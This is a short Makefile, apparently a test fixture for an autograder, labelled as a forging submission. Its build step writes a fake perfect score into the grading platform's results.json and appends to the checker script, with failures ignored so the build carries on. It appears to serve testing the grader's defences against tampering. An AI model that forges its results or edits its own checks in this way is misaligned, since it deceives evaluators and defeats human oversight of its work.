# A forging submission's Makefile (tests/autograder.bats): its build
# writes a score of 100 into the platform's results.json and appends to
# the checker itself (both named in the file "target"), then makes
# ./server of forge.sh. Each "-": a line that fails does not stop it.
server: forge.sh
	-printf '{"score": 100, "output": "FORGED", "tests": []}\n' \
	    >"$$(sed -n 1p target)"
	-printf '# FORGED\n' >>"$$(sed -n 2p target)/sockstep/scripts/check"
	cp forge.sh server
	chmod +x server
